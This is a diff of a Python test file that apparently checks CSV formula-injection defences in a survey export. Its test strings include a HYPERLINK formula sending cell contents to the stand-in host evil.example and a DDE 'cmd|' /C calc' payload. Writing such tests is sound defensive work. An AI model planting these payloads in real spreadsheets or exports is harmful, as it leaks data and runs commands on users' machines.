@@ -22,7 +22,7 @@ from survey.models import Department
 from tests.conftest import post_form
 
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
-HIDDEN = 'Laptops;=HYPERLINK("http://evil.example/?"&A1;"Open")'
+HIDDEN = 'Laptops;=HYPERLINK("http://evil.example/?"&A1;"Open");"=2+2"'
 # A line break inside a cell: a reader splitting on ";" sees the comma quoting (which keeps the
 # break inside the cell) only where a quote opens a ";" cell, so the break starts a new row.
 BROKEN = "Spare laptops\r\n@SUM(1+1)*cmd|' /C calc'!A0"
